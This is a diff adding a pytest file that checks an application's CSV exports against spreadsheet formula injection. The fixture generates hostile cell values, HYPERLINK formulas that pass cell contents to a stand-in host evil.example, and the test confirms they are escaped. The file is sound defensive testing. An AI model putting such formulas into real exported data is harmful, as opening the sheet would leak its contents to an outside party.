@@ -1,0 +1,63 @@
+"""Every CSV the app produces neutralises formulas: no cell a spreadsheet would run starts with
+= + - @, a tab or a carriage return."""
+
+from __future__ import annotations
+
+import csv
+import io
+import itertools
+
+import pytest
+
+from govtrack.obligations.views import csv_safe
+from tests.hostile.conftest import build_world, sign_in
+
+STARTS = ("=", "+", "-", "@", "\t", "\r")
+_next = itertools.cycle(STARTS)
+
+
+def formula(kind: str) -> str:
+    if kind in {"document name", "evidence name"}:
+        return kind
+    return f"{next(_next)}HYPERLINK(\"http://evil.example/?\"&A1,\"{kind}\")"
+
+
+@pytest.fixture
+def formula_world(app, make_user, make_partner, make_agreement, today):
+    with app.test_request_context():
+        return build_world(make_user, make_partner, make_agreement, text=formula)
+
+
+def csv_routes(app) -> list[str]:
+    return sorted(r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv") and not r.arguments)
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
+def test_csv_safe_neutralises_each_formula_start(value):
+    assert csv_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Bank Syariah", "1500000.00", "", None, "2027-03-15", " a=b"])
+def test_csv_safe_keeps_ordinary_values(value):
+    assert csv_safe(value) == ("" if value is None else value)
+
+
+def test_every_csv_export_neutralises_formulas(app, client, formula_world):
+    sign_in(client, formula_world.admin)
+    routes = csv_routes(app)
+    assert {"/obligations/export.csv", "/obligations/maturity.csv"} <= set(routes), routes
+    cells = []
+    for url in routes + ["/obligations/export.csv?status=fulfilled", "/obligations/export.csv?status=open"]:
+        resp = client.get(url)
+        assert resp.status_code == 200 and resp.mimetype == "text/csv", url
+        rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
+        assert rows, url
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(STARTS), (url, cell)
+                cells.append(cell)
+    # The hostile texts are there, made harmless (else the test would prove nothing).
+    shown = [c for c in cells if "HYPERLINK" in c]
+    # A leading tab or CR may have been stripped on the way in: that text starts with a letter.
+    assert all(c.startswith(("'", "HYPERLINK")) for c in shown), shown
+    assert {c[1] for c in shown if c.startswith("'")} >= {"=", "+", "-", "@"}
